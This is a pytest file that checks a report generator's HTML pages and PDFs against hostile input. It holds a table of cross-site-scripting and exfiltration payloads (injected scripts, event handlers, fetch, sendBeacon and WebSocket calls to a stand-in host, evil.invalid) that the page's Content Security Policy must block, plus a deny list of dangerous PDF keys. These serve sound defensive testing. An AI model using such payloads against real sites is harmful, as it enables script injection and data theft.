"""A whole project of hostile texts and names, built for real: its page in Chromium, its PDF, no network."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING

import pikepdf
import pypdf
import pytest
from playwright.sync_api import expect

from scorelib.serve.folder import folder_pages
from scorelib.serve.loopback import LoopbackServer

from .cases_texts import SHOWN
from .hostile_project import ATTACK, spoil
from .watched import STRANGE, Watched

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

REPORT = Path("reports/voorbeeld/2024/nl")
FILES = ["data.zip", "index.html", "notebook.ipynb", "provenance.json", "scorecard-voorbeeld-2024-nl.pdf"]
BUILD = ("build", "voorbeeld", "--lang", "nl")


def make_hostile(project: Path) -> Path:
    assert spoil(project) > 1000
    return project


@pytest.fixture(scope="module")
def hostile(
    new_project: Callable[[], Path], scorelib: Callable[..., subprocess.CompletedProcess[str]]
) -> Iterator[Path]:
    """The project, built."""
    project = make_hostile(new_project())
    done = scorelib(*BUILD, cwd=project)
    assert done.returncode == 0, done.stderr
    yield project
    shutil.rmtree(project)


@pytest.fixture
def watch(chromium: Browser) -> Iterator[Callable[[str], Watched]]:
    opened: list[Watched] = []

    def visit(address: str) -> Watched:
        opened.append(Watched(chromium, address))
        return opened[-1]

    yield visit
    for each in opened:
        each.context.close()


@pytest.mark.browser
def test_in_a_browser_nothing_of_it_runs_or_asks_for_anything(
    hostile: Path, watch: Callable[[str], Watched]
) -> None:
    address = (hostile / REPORT / "index.html").as_uri()
    seen = watch(address)
    page = seen.page
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    for figure in page.query_selector_all("main figure"):
        figure.scroll_into_view_if_needed()
    expect(page.locator(".plot:not(.drawn)")).to_have_count(0)
    for mark in page.query_selector_all(".plot [role='graphics-symbol'], .plot path")[:20]:
        mark.dispatch_event("mousemove")
    assert page.evaluate("window.__pwned") is None
    assert seen.violations() == []
    assert seen.complaints == []
    assert seen.dialogs == []
    assert seen.requests == [address]
    shown = " ".join(page.locator("body").inner_text().split())
    assert " ".join(ATTACK.split()) in shown
    assert ATTACK in page.title()
    strange = page.evaluate(STRANGE)
    assert strange == []


@pytest.mark.browser
def test_as_it_is_served_nothing_of_it_runs_or_leaves_the_loopback(
    hostile: Path, watch: Callable[[str], Watched]
) -> None:
    with LoopbackServer(folder_pages(hostile / "reports")) as server:
        seen = watch(f"{server.url}voorbeeld/2024/nl/")
        for figure in seen.page.query_selector_all("main figure"):
            figure.scroll_into_view_if_needed()
        expect(seen.page.locator(".plot:not(.drawn)")).to_have_count(0)
        assert seen.page.evaluate("[window.__pwned ?? null, window.__violations]") == [None, []]
        assert seen.page.evaluate(STRANGE) == []
        assert seen.complaints == seen.dialogs == seen.failures == []
        assert all(each.startswith(server.url) for each in seen.requests)
        # A table, a notebook or a drawing of somebody else's that lies there is no page of this place.
        for name in ("data.zip", "notebook.ipynb", "provenance.json"):
            answer = seen.page.request.get(f"{server.url}voorbeeld/2024/nl/{name}")
            assert not answer.headers["content-type"].startswith(("text/html", "image/svg"))
            assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.slow
@pytest.mark.browser
def test_on_the_site_over_it_nothing_of_it_runs_or_leads_out(
    hostile: Path, scorelib: Callable[..., subprocess.CompletedProcess[str]], watch: Callable[[str], Watched]
) -> None:
    done = scorelib("site", cwd=hostile)
    assert done.returncode == 0, done.stderr
    site = hostile / "reports" / "_site"
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 20
    seen = watch((hostile / "reports" / "index.html").as_uri())
    for path in pages:
        seen.page.goto(path.as_uri())
        assert seen.page.evaluate("[window.__pwned ?? null, window.__violations]") == [None, []], path
        assert seen.page.evaluate(STRANGE) == [], path
    assert seen.complaints == seen.dialogs == []
    assert all(each.startswith((hostile / "reports").as_uri()) for each in seen.requests)


NEW = "const x = document.createElement('script'); "

ATTEMPTS = {
    "a script": ("script-src-elem", NEW + "x.text = 'window.__pwned=1'; add(x)"),
    "a nonce guessed": ("script-src-elem", NEW + "x.nonce = 'a'; x.text = 'window.__pwned=1'; add(x)"),
    "a script from elsewhere": ("script-src-elem", NEW + "x.src = E; add(x)"),
    "a script in data": ("script-src-elem", NEW + "x.src = 'data:,window.__pwned=1'; add(x)"),
    "a module": ("script-src-elem", NEW + "x.type = 'module'; x.text = 'window.__pwned=1'; add(x)"),
    "an event": ("script-src-attr", "add('<img src=data:, onerror=window.__pwned=1>')"),
    "an event of a drawing": ("script-src-attr", "add('<svg onload=window.__pwned=1></svg>')"),
    "a text as code": ("script-src", "setTimeout('window.__pwned=1')"),
    "a link to a script": (
        "script-src-elem",
        "add('<a id=run href=javascript:window.__pwned=1>x</a>'); document.getElementById('run').click()",
    ),
    "a frame": ("frame-src", "add('<iframe src=' + E + '></iframe>')"),
    "an object": ("object-src", "add('<object data=' + E + '></object>')"),
    "a picture": ("img-src", "add('<img src=' + E + '>')"),
    "a style": ("style-src-elem", "add('<style>body { background: url(' + E + ') }</style>')"),
    "a style of an element": ("style-src-attr", "add('<p style=\"background: url(' + E + ')\">x</p>')"),
    "a style from elsewhere": (
        "style-src-elem",
        "const x = document.createElement('link'); x.rel = 'stylesheet'; x.href = E; add(x)",
    ),
    "a font": ("font-src", "new FontFace('x', 'url(' + E + ')').load().catch(() => {})"),
    "a request": ("connect-src", "fetch(E).catch(() => {})"),
    "a message on leaving": ("connect-src", "navigator.sendBeacon(E, 'x')"),
    "a socket": ("connect-src", "try { new WebSocket('wss://evil.invalid/') } catch {}"),
    "a worker": ("worker-src", "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}"),
    "a base": ("base-uri", "const x = document.createElement('base'); x.href = E; document.head.append(x)"),
    "a form": (
        "form-action",
        "const x = document.createElement('form'); x.action = E; x.method = 'post'; add(x); x.submit()",
    ),
    "a film": ("media-src", "add('<video src=' + E + '></video>')"),
}  # fmt: skip


TRY = """() => new Promise(done => {
  const E = "https://evil.invalid/x";
  const add = what => document.body.append(
    typeof what === "string" ? document.createRange().createContextualFragment(what) : what);
  const found = event => { clearTimeout(waiting); done([event.effectiveDirective]); };
  const waiting = setTimeout(() => done([]), 2000);
  document.addEventListener("securitypolicyviolation", found, { once: true });
  %s
})"""
"""Try something, and tell what stopped it."""


@pytest.mark.browser
def test_what_would_get_into_the_page_all_the_same_is_stopped_by_its_policy(
    hostile: Path, watch: Callable[[str], Watched]
) -> None:
    address = (hostile / REPORT / "index.html").as_uri()
    seen = watch(address)
    stopped = {name: seen.page.evaluate(TRY % code) for name, (_, code) in ATTEMPTS.items()}
    assert stopped == {name: [directive] for name, (directive, _) in ATTEMPTS.items()}
    # A frame has violations of its own, which it tells the console alone.
    seen.complaints.clear()
    seen.page.evaluate(TRY % "add('<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>')")
    assert "Content Security Policy" in "".join(seen.complaints)
    assert seen.page.evaluate("window.__pwned") is None
    # What is stopped is a request too, in the eyes of the tool: one that has failed before it was sent.
    assert set(seen.failures) == {"csp"}
    assert len(seen.failures) == len([each for each in seen.requests if "evil" in each])


def test_the_policy_is_there_and_lets_in_nothing_by_a_name_or_a_nonce(hostile: Path) -> None:
    page = (hostile / REPORT / "index.html").read_text("utf-8")
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert len(found) == 1
    # It stands before everything that it is to hold back.
    assert page.index("Content-Security-Policy") < min(
        page.index("<style"), page.index("<script"), page.index("<title")
    )
    rules = {rule.split()[0]: rule.split()[1:] for rule in unescape(found[0]).split(";")}
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    for name in ("script-src", "style-src"):
        assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", each) for each in rules[name])


def test_in_the_pdf_there_is_nothing_to_run_and_no_file(hostile: Path) -> None:
    path = hostile / REPORT / FILES[-1]
    with pikepdf.open(path) as pdf:
        for each in pdf.objects:
            if isinstance(each, pikepdf.Dictionary | pikepdf.Stream):
                keys = set(each.keys())
                assert not keys & {
                    "/JS",
                    "/JavaScript",
                    "/AA",
                    "/OpenAction",
                    "/EmbeddedFiles",
                    "/EF",
                    "/XFA",
                    "/AcroForm",
                }
                if "/S" in keys and each.get("/Type") == "/Action":
                    assert str(each["/S"]) in {"/URI", "/GoTo"}
                if "/URI" in keys:
                    assert re.match(r"https?://|mailto:|#", str(each["/URI"]))
    pages = [page.extract_text() for page in pypdf.PdfReader(path).pages]
    printed = re.sub(r"[\s\u00ad-]+", "", "".join(pages))
    sought: list[str] = [ATTACK, *(case for case in SHOWN if isinstance(case, str))]
    for wanted in sought:
        assert not wanted.isascii() or re.sub(r"[\s-]+", "", wanted) in printed


# --- no network -------------------------------------------------------------------------------------


def _may_unshare() -> bool:
    program = shutil.which("unshare")
    if program is None:
        return False
    return subprocess.run([program, "-rn", "true"], check=False, capture_output=True).returncode == 0


ATTEMPTED = """
import pathlib
lines = [line.split() for line in pathlib.Path("/proc/net/snmp").read_text().splitlines()]
counts = {f"{names[0]}{name}": int(value) for names, values in zip(lines[::2], lines[1::2])
          for name, value in zip(names[1:], values[1:])}
six = dict(line.split() for line in pathlib.Path("/proc/net/snmp6").read_text().splitlines())
print(counts["Ip:OutNoRoutes"], counts["Tcp:ActiveOpens"], counts["Udp:OutDatagrams"], six["Ip6OutNoRoutes"])
"""
"""What a network namespace has been asked for: ways that it has not, connections, datagrams."""


def alone(command: list[str], folder: Path) -> tuple[int, str]:
    """Run a command where there is no network at all; its exit code, and what it tried."""
    script = f'"$@" >&2; code=$?; {sys.executable} -c "$LOOK"; exit $code'
    done = subprocess.run(
        ["unshare", "-rn", "sh", "-c", script, "sh", *command],
        cwd=folder,
        env={**os.environ, "LOOK": ATTEMPTED},
        capture_output=True,
        text=True,
        check=False,
    )
    return done.returncode, done.stdout.strip()


@pytest.mark.skipif(not _may_unshare(), reason="network namespaces (unshare -rn) are not permitted here")
def test_without_a_network_a_build_makes_the_same_bytes_and_does_not_even_try(
    hostile: Path, new_project: Callable[[], Path]
) -> None:
    other = make_hostile(new_project())
    assert alone([sys.executable, "-m", "scorelib", *BUILD], other) == (0, "0 0 0 0")
    for name in FILES:
        assert (other / REPORT / name).read_bytes() == (hostile / REPORT / name).read_bytes(), name
    shutil.rmtree(other)


@pytest.mark.skipif(not _may_unshare(), reason="network namespaces (unshare -rn) are not permitted here")
def test_an_attempt_would_be_seen(tmp_path: Path) -> None:
    code = "import socket; socket.socket().connect(('192.0.2.1', 80))"
    _, tried = alone([sys.executable, "-c", code], tmp_path)
    assert tried != "0 0 0 0"
